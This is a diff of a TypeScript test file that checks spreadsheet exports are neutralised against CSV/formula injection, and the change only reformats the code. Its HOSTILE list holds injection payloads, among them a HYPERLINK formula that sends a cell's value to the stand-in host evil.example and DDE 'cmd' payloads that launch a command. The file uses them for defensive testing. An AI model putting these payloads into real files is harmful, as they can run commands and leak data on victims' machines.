@@ -6,7 +6,16 @@ import { neutralise, toXlsx } from './export.js';
 const t = useTestApp();
 
 /** Text a spreadsheet would run as a formula once the file is saved as CSV and opened again. */
-const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', '=1+1', '+86-10-1234', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1,2)', '\t=1+1', '\r=1+1', '=cmd|\'/C calc\'!A0'];
+const HOSTILE = [
+  '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
+  '=1+1',
+  '+86-10-1234',
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1,2)',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|'/C calc'!A0",
+];
 const HARMLESS = ['张三', '13800000001', '1+1', ' =1+1', 'a=b', '', '（=）'];
 
 async function cells(buf: Buffer) {
@@ -34,13 +43,20 @@ describe('exports never carry a formula (CSV / formula injection)', () => {
   });
 
   it('keeps real numbers numbers, a negative one included, and booleans and blanks as they are', async () => {
-    const rows = [{ amount: -1500.5, count: 0, ok: true, note: null }, { amount: 2300, count: -3, ok: false, note: undefined }];
-    const buf = await toXlsx('金额', [
-      { header: '金额', value: (r: (typeof rows)[number]) => r.amount },
-      { header: '人次', value: (r: (typeof rows)[number]) => r.count },
-      { header: '是否', value: (r: (typeof rows)[number]) => r.ok },
-      { header: '备注', value: (r: (typeof rows)[number]) => r.note },
-    ], rows);
+    const rows = [
+      { amount: -1500.5, count: 0, ok: true, note: null },
+      { amount: 2300, count: -3, ok: false, note: undefined },
+    ];
+    const buf = await toXlsx(
+      '金额',
+      [
+        { header: '金额', value: (r: (typeof rows)[number]) => r.amount },
+        { header: '人次', value: (r: (typeof rows)[number]) => r.count },
+        { header: '是否', value: (r: (typeof rows)[number]) => r.ok },
+        { header: '备注', value: (r: (typeof rows)[number]) => r.note },
+      ],
+      rows,
+    );
     const read = (await cells(buf)).slice(1);
     expect(read.map((r) => r.map((c) => c.value))).toEqual([
       [-1500.5, 0, true, ''],
